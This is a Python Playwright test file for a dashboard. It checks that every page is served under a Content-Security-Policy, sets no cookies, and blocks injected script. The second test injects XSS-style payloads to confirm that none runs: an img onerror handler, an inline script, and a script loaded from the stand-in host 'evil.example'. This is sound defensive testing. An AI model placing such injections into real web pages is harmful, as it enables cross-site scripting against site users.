"""The policy that every page stands under, as a browser keeps it; that consoles stay clean under it, every browser test watches."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Page

from dashboard.pages import PAGES

OTHERS = ("/present?chart=phases", "/present?page=timeline", "/embed/limit-map", "/plain/data?table=limits", "/compare/sentences-by-year",
          "/data?table=limits", "/charts/phases", "/#export=arrests-executions", "/static/nothing-here")  # fmt: skip


@pytest.mark.parametrize("path", [page.path for page in PAGES])
def test_each_page_works_under_the_policy_and_sets_no_cookie(page: Page, path: str) -> None:
    answer = page.goto(path)
    assert answer is not None
    assert "script-src 'self' 'sha256-" in answer.headers["content-security-policy"]
    page.wait_for_load_state("networkidle")
    page.wait_for_function("document.getElementById('main')?.dataset.path === location.pathname")
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""


@pytest.mark.parametrize("path", OTHERS)
def test_nothing_that_was_smuggled_into_a_page_runs(browser: Browser, base: str, path: str) -> None:
    context = browser.new_context(base_url=base)
    page = context.new_page()
    page.goto(path)
    page.wait_for_load_state("networkidle")
    smuggled = """() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 1">');
      const script = document.createElement('script');
      script.textContent = 'window.ran = 2';
      document.body.append(script);
      const far = document.createElement('script');
      far.src = 'https://evil.example/x.js';
      return new Promise(done => { far.onerror = () => setTimeout(done, 200); document.body.append(far); });
    }"""
    page.evaluate(smuggled)
    assert page.evaluate("window.ran") is None
    context.close()
